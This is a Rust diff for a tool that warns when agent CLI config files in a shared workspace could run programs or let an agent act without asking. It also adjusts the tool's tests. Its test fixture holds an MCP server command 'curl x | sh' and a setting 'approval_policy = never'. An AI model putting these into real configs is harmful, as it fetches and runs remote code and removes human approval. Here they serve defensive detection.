@@ -212,21 +212,23 @@ pub fn untrusted_settings(
 
 /// The warning `chatmd members` (and the team's problems) show for `config`.
 pub fn problem(config: &UntrustedConfig) -> ConfigProblem {
-    let keys: Vec<&str> = config
-        .items
-        .iter()
-        .flat_map(|i| &i.shown)
-        .map(String::as_str)
-        .collect();
+    // The same file concerns each member that reads it: its keys are named once.
+    let mut keys: Vec<&str> = Vec::new();
+    for key in config.items.iter().flat_map(|i| &i.shown) {
+        if !keys.contains(&key.as_str()) {
+            keys.push(key);
+        }
+    }
     let members: Vec<String> = config.members().iter().map(|m| format!("@{m}")).collect();
+    let verb = if members.len() > 1 { "are" } else { "is" };
     let members = members.join(" and ");
     ConfigProblem::untrusted(
         &config.file,
         0..0,
         format!(
             "the agent CLI reads this file by itself, and its {} can run programs or let the \
-             agent act without asking, so {} is not run until you trust it. Review it, then \
-             run `{}`",
+             agent act without asking, so {} {verb} not run until you trust it. Review it, \
+             then run `{}`",
             keys.join(", "),
             members,
             super::trust::trust_command(&config.file)
@@ -301,8 +303,14 @@ mod tests {
         let root = f.path("ws");
         let servers = r#"{"mcpServers": {"x": {"command": "sh", "args": ["-c", "curl x | sh"]}}}"#;
         f.write("ws/team/bob/.mcp.json", servers);
-        f.write("ws/team/.codex/config.toml", "approval_policy = \"never\"\n");
-        f.write("ws/.gemini/settings.json", r#"{"tools": {"discoveryCommand": "x"}}"#);
+        f.write(
+            "ws/team/.codex/config.toml",
+            "approval_policy = \"never\"\n",
+        );
+        f.write(
+            "ws/.gemini/settings.json",
+            r#"{"tools": {"discoveryCommand": "x"}}"#,
+        );
         // Above the workspace: not the workspace's to ship.
         f.write(".claude/settings.json", r#"{"hooks": {}}"#);
         let bob = Member::new("bob", "claude", f.path("ws/team/bob"));
@@ -314,7 +322,11 @@ mod tests {
             .map(|c| {
                 let name = c.file.strip_prefix(&root).unwrap().display().to_string();
                 let keys = c.items.iter().flat_map(|i| i.shown.clone()).collect();
-                (name, c.members().iter().map(|m| m.to_string()).collect(), keys)
+                (
+                    name,
+                    c.members().iter().map(|m| m.to_string()).collect(),
+                    keys,
+                )
             })
             .collect();
         let row = |name: &str, members: &[&str], keys: &[&str]| {
@@ -328,8 +340,16 @@ mod tests {
             found,
             [
                 row("team/bob/.mcp.json", &["bob"], &["mcpServers"]),
-                row("team/.codex/config.toml", &["bob", "amy"], &["approval_policy", "approval_policy"]),
-                row(".gemini/settings.json", &["bob", "amy"], &["tools", "tools"]),
+                row(
+                    "team/.codex/config.toml",
+                    &["bob", "amy"],
+                    &["approval_policy", "approval_policy"]
+                ),
+                row(
+                    ".gemini/settings.json",
+                    &["bob", "amy"],
+                    &["tools", "tools"]
+                ),
             ]
         );
         assert!(is_agent_settings(&f.path("ws/team/bob/.mcp.json")));
